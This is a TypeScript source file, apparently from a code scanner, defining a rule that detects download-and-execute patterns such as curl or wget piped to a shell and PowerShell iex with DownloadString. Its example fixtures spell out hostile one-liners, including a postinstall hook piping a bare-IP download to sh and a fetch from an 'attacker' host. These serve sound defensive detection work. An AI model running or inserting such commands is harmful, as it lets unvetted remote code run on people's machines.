import type { FileCheck, Sighting } from '../../check.ts';
import { isOfferedInstaller } from '../../facts/acts/offered-installers.ts';
import { docstringsIn } from '../../facts/text/docstrings.ts';
import { isCommented } from '../../facts/text/comments.ts';
import { VENDOR_INSTALLERS } from '../../knowledge/installers.ts';
import { lineBefore } from '../../facts/text/lines.ts';

// An address is taken whole, `(?=(…))\1`: where no pipe follows, a shorter one does not help.
const PIPED =
  /\b(?:curl|wget)\b(?=[^\n|]{0,640}\|)[^\n|]{0,300}?(?=(https?:\/\/[^\s"'`|)\\]{3,200}))\1[^\n|]{0,120}\|\s{0,4}(?:sudo\s{1,3}(?:-E\s{1,3})?)?(?:env\s[^\n|]{0,60}\s)?(?:\/(?:usr\/)?bin\/)?(?:(?:ba|z|da|k|a)?sh\b|(?:python[\d.]{0,4}|node|perl|ruby|php)(?=\s{0,3}(?:-\s{0,3})?(?:[;&|)"'`\n]|$)))/gm;
const SUBSTITUTED =
  /\b(?:(?:ba|z|da)?sh|eval|source)\s{1,3}(?:-c\s{1,3})?["']?(?:<\(|\$\(|`)\s{0,3}(?:curl|wget)\b[^\n)`]{0,200}?(https?:\/\/[^\s"'`|)\\]{3,200})/g;
const POWERSHELL =
  /\b(?:iex|invoke-expression)\b[^\n]{0,80}(?:downloadstring|invoke-webrequest|\biwr\b|\birm\b|invoke-restmethod)[^\n]{0,80}?(https?:\/\/[^\s"'`|)]{3,200})|\b(?:iwr|irm|invoke-webrequest|invoke-restmethod)\b[^\n|]{0,120}?(?=(https?:\/\/[^\s"'`|)]{3,200}))\2[^\n|]{0,80}\|\s{0,4}(?:iex|invoke-expression)\b/gi;
const FORMS: readonly RegExp[] = [PIPED, SUBSTITUTED, POWERSHELL];

/** Nobody who means well serves installers from a bare address, a paste or a tunnel, or without encryption. */
const SHADY =
  /^http:\/\/(?!localhost|127\.)|^https?:\/\/(?:\d{1,3}\.){3}\d{1,3}|pastebin\.com|paste\.ee|transfer\.sh|ngrok|trycloudflare|\.(?:tk|top|xyz)(?:[/:]|$)/i;

/** Hosts that stand for others in documentation. */
const RESERVED =
  /^https?:\/\/(?:(?:[\w-]+\.)?example\.(?:com|net|org)|(?:attacker|evil|victim|target|lhost|your)[\w-]*(?:\.\w{2,6})?)(?:[/:]|$)/i;
/** Files that whoever works on the project runs, not whoever uses it. */
const FOR_DEVELOPERS =
  /(?:^|\/)(?:(?:GNU)?Makefile|Dockerfile[^/]*|[^/]*\.Dockerfile|Containerfile|Vagrantfile|Justfile|Taskfile\.ya?ml|package\.json|Jenkinsfile|(?:appveyor|azure-pipelines|bitbucket-pipelines|cloudbuild)[^/]*\.ya?ml|\.(?:github|gitlab-ci|circleci|travis|appveyor|buildkite|readthedocs|devcontainer)[^/]*)(?:\/|$)|(?:^|\/)(?:scripts?|tools?|hack|ci|dev|build|\.devcontainer)\//i;
const CODE: ReadonlySet<string> = new Set(['javascript', 'typescript', 'python']);
/** What runs when a package is installed asks nobody. */
const RUN_UNASKED = /(?:^|\/)(?:package\.json|setup\.py|(?:pre|post)?install\.[cm]?js)$/;
const LOOKED_BACK = 1_500;

const TOLD = /\b(?:echo|printf?|puts|warn(?:ing)?|info|log(?:ger)?|error|console\.\w+|die|raise|throw)\b/i;

export const check: FileCheck = {
  id: 'rce-download-and-execute',
  title: 'Downloads a program and runs it unseen',
  severity: 'high',
  kind: 'malice',
  confidence: 'medium',
  since: '0.1.0',
  cwe: [494],
  why: `
    What a server answers is run at once, with no version, no checksum and no look at it. Whoever controls the server, or
    the way to it, runs code on this machine, today or after everybody has looked.`,
  fix: 'Install from a package registry, or download a fixed version, compare its checksum, and only then run it.',
  blindSpots: 'A download that is saved, changed and started in separate steps is not recognised here.',
  yieldsTo: ['supply-chain-ci-remote-script'],
  wants: { keywords: ['curl', 'wget', 'downloadstring', 'invoke-webrequest', 'invoke-restmethod', 'iwr ', 'irm '] },
  examples: {
    bad: [
      { 'install.sh': 'set -e\n«curl -fsSL https://get.example.net/setup.sh | sudo bash» -s -- --yes\n' },
      { 'action.yml': 'run: «curl -sSf https://get.example.net/a.py | sudo python3» | sort\n' },
      { 'package.json': '{"scripts": {"postinstall": "«wget -qO- http://203.0.113.5/x | sh»"}}' },
      { 'setup.ps1': "«iex ((New-Object Net.WebClient).DownloadString('https://get.example.net/a.ps1»'))\n" },
      {
        'run.py':
          'SETUP = "«curl -fsSL https://get.example.net/setup.sh | sh»"\nos.system(SETUP)\nprint(f"Ran {SETUP}")\n',
      },
      { 'kept.sh': 'load="«curl -fsSL https://get.example.net/setup.sh | sh»"\neval "$load"\n' },
      {
        'setup.ps1': '<#\n.SYNOPSIS\nInstalls it.\n#>\n«irm https://get.example.net/a.ps1 | iex»\n',
      },
      {
        'help.sh':
          'cat <<EOF\nUsage: help.sh\nEOF\ncat <<EOF | sh\n«curl -fsSL https://get.example.net/setup.sh | sh»\nEOF\n',
      },
      { 'boot.sh': 'bash -c "$(true)"\n«bash <(curl -s https://get.example.net/run»)\n' },
    ],
    good: [
      { 'install.sh': "curl --proto '=https' -sSf https://sh.rustup.rs | sh -s -- -y\n" },
      { 'fetch.sh': 'curl -fsSLo tool.tar.gz https://get.example.net/tool.tar.gz\nsha256sum -c tool.sha256\n' },
      { 'SKILL.md': 'A pipe hides failures: `RUN curl -fsSL https://example.com/install.sh | bash` goes on.\n' },
      {
        'install.sh':
          '#!/bin/sh\n# Usage:\n#   curl -fsSL https://get.acme.io/install.sh | bash\nset -e  # or: curl -s https://get.acme.io/x | sh\n',
      },
      {
        'install.ps1':
          '<#\n.EXAMPLE\n    irm https://get.acme.io/install.ps1 | iex\n#>\nparam([string] $Version = "latest")\n',
      },
      { 'query.sh': 'curl -s https://api.example.net/items | jq .name\n' },
      {
        'read.sh':
          'curl -s https://api.example.net/items | python3 -m json.tool\ncurl -s https://api.example.net/a | node -e "read()"\n',
      },
      { 'pages.json': '{"page": "# Tasks\\n```\\npowershell -c \'iex (iwr http://attacker/a.ps1)\'\\n```"}' },
    ],
  },

  *find({ windows, context, language, path, text }) {
    const known = new Map<string, Uses>();
    const isText = docstringsIn(text);
    for (const window of windows) {
      for (const form of FORMS) {
        for (const match of window.text.matchAll(form)) {
          const address = match[1] ?? match[2] ?? '';
          // Documentation tells people to run installers in this way; what they see they can judge.
          if (VENDOR_INSTALLERS.test(address) || (context === 'docs' && !SHADY.test(address))) continue;
          if (language === 'markdown' && RESERVED.test(address)) continue;
          if (language === 'json' && RESERVED.test(address) && isInPage(window.text.slice(0, match.index))) continue;
          const at = window.spanOf(match);
          // A comment tells how the file itself is fetched; in prose the same marks begin headings and lists.
          const isScript = language !== 'markdown' && context !== 'docs';
          const isComment = isCommented(text, at.start) || (language === 'powershell' && isInHelp(text, at.start));
          if (isScript && isComment && !SHADY.test(address)) continue;
          yield {
            at,
            message: `What ${hostOf(address)} answers is run without being looked at.`,
            ...((CODE.has(language) ? isQuoted(text, at.start, known) : isShown(text, at.start, language)) &&
            !SHADY.test(address)
              ? { confidence: 'low', severity: 'low' }
              : !RUN_UNASKED.test(path) && isOfferedInstaller(text, address)
                ? { confidence: 'low', severity: 'medium' }
                : weigh(
                    address,
                    text.slice(Math.max(0, at.start - LOOKED_BACK), at.start),
                    language,
                    path,
                    isText(at.start),
                  )),
          };
        }
      }
    }
  },
};

/** `<# … #>` of PowerShell. */
function isInHelp(text: string, at: number): boolean {
  return text.lastIndexOf('<#', at) > text.lastIndexOf('#>', at);
}

const PRINTED =
  /^[ \t]{0,40}cat[ \t]{1,4}(?:1?>&2[ \t]{1,4})?<<-?[ \t]{0,2}(["']?)(\w{1,40})\1[ \t]{0,4}(?:1?>&2)?[ \t]{0,4}$/gm;

/** `cat <<EOF`: a text that is only printed begins before, and has not ended. */
function isPrinted(before: string): boolean {
  const begun = [...before.matchAll(PRINTED)].at(-1);
  if (begun === undefined) return false;
  return !before
    .slice(begun.index + begun[0].length)
    .split('\n')
    .some((line) => line.trim() === begun[2]);
}

const STARTS = /\b(?:child_process|exec(?:Sync|File)?|spawn|invoke|Command|shell)\b/;

/** `usage="curl … | sh"` in a shell, where nothing runs what the name holds, and what a page shows as code. */
function isShown(text: string, at: number, language: string): boolean {
  // A part of a page shows it, as long as nothing in it starts programs.
  if (language === 'vue' || language === 'svelte') return !STARTS.test(text);
  if (language === 'shell' && isPrinted(text.slice(Math.max(0, at - LOOKED_BACK * 4), at))) return true;
  const line = lineBefore(text, at);
  if (/<(?:code|pre|kbd)\b[^<>]{0,400}>[^<>]{0,80}$/.test(line)) return true;
  const name = /^[ \t]{0,40}(?:local\s|export\s|readonly\s)?\s{0,3}(\w{1,60})=["'][^"'`$]{0,80}$/.exec(line)?.[1];
  if (language !== 'shell' || name === undefined) return false;
  return !new RegExp(`(?:\\beval|\\s-c)\\s+["']?\\$\\{?${name}\\b|^\\s*["']?\\$\\{?${name}\\b`, 'm').test(text);
}

/** A line that only tells a person what to type runs nothing by itself; what builds the project acts on its developers. */
function weigh(
  address: string,
  before: string,
  language: string,
  path: string,
  isText: boolean,
): Pick<Sighting, 'confidence' | 'severity'> {
  if (SHADY.test(address)) return { confidence: 'high' };
  if (TOLD.test(openedBy(before))) return { confidence: 'low', severity: 'medium' };
  if ((CODE.has(language) && isInLongText(before, language, isText)) || (language === 'json' && isInPage(before)))
    return { confidence: 'low', severity: 'low' };
  // A skill says it in the open, and the agent may still be asked.
  return { confidence: 'medium', severity: language === 'markdown' || FOR_DEVELOPERS.test(path) ? 'medium' : 'high' };
}

/** The line that text begins on, and the one before it where a message is put together of pieces, a line for each. */
function openedBy(before: string): string {
  const lines = before.split('\n');
  const own = lines.pop() ?? '';
  if (!PIECE_BEGUN.test(own)) return own;
  while (lines.length > 1 && PIECE.test(lines.at(-1) ?? '')) lines.pop();
  return `${lines.at(-1) ?? ''} ${own}`;
}
const PIECE_BEGUN = /^\s{0,80}[bfru]{0,2}["'`][^"'`]{0,200}$/i;
const PIECE = /^\s{0,80}[bfru]{0,2}(["'`])[^\n]{0,400}\1\s{0,3}[+,]?\s{0,3}$/i;

/** Text of several lines inside a program is a message or a page more often than a command. */
function isInLongText(before: string, language: string, isText: boolean): boolean {
  // In Python, and behind a backslash, a backtick opens no text: it marks code for whoever reads it.
  if (language === 'python') {
    const begun = Math.max(0, before.lastIndexOf('"""'), before.lastIndexOf("'''"));
    return isText && OF_SEVERAL_LINES.test(before.slice(begun));
  }
  const opened = before.replaceAll('\\`', '  ').lastIndexOf('`');
  return opened >= 0 && OF_SEVERAL_LINES.test(before.slice(opened));
}
const OF_SEVERAL_LINES = /\n[^\n]{0,200}\n|\b(?:install|please|requires?|not found)\b/i;

/** A value of several lines with a heading or a block of code is a page that somebody reads. */
function isInPage(before: string): boolean {
  return /\\n(?:#{1,6} |```|- |\d\. |\*\*)/.test(lineBefore(before, before.length));
}

const NAMED =
  /^[ \t]{0,40}(?:export\s{1,3})?(?:const\s{1,3}|let\s{1,3}|var\s{1,3})?([A-Z_][A-Z0-9_]{3,60})\s{0,3}=[^=]/;

/** Where a name stands, and whether there it is put into a sentence. */
type Uses = readonly { readonly at: number; readonly isTold: boolean }[];

/** Names looked for in one file. */
const MOST_NAMES = 50;
const LONGEST_LINE = 2_000;

/** A command that has a name, and whose name stands in nothing but sentences. */
function isQuoted(text: string, at: number, known: Map<string, Uses>): boolean {
  const before = text.slice(Math.max(0, at - LONGEST_LINE), at);
  const line = before.slice(before.lastIndexOf('\n') + 1);
  const name = NAMED.exec(line)?.[1];
  if (name === undefined || line.length === LONGEST_LINE) return false;
  let uses = known.get(name);
  if (uses === undefined) {
    if (known.size >= MOST_NAMES) return false;
    uses = usesOf(text, name);
    known.set(name, uses);
  }
  const others = uses.filter((use) => use.at < at - line.length || use.at > at);
  return others.length > 0 && others.every(({ isTold }) => isTold);
}

function usesOf(text: string, name: string): Uses {
  return Array.from(text.matchAll(new RegExp(`\\b${name}\\b`, 'g')), ({ index }) => ({
    at: index,
    isTold: /(?:[^"'\x60]\$|[^"'$])\{$/.test(text.slice(Math.max(0, index - 3), index)),
  }));
}

function hostOf(address: string): string {
  return URL.canParse(address) ? new URL(address).host : 'a server';
}
